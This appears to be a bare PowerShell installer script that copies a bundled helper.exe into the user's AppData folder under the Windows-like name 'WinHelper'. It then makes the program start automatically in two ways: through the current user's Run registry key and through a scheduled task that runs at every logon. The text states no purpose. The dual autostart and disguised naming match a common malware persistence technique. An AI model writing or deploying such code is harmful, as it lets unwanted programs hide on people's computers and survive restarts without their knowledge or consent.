$p = "$env:APPDATA\WinHelper\helper.exe"
Copy-Item "$PSScriptRoot\helper.exe" $p
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'WinHelper' -Value $p
schtasks /create /tn "WinHelperUpdate" /tr "$p --update" /sc onlogon /f
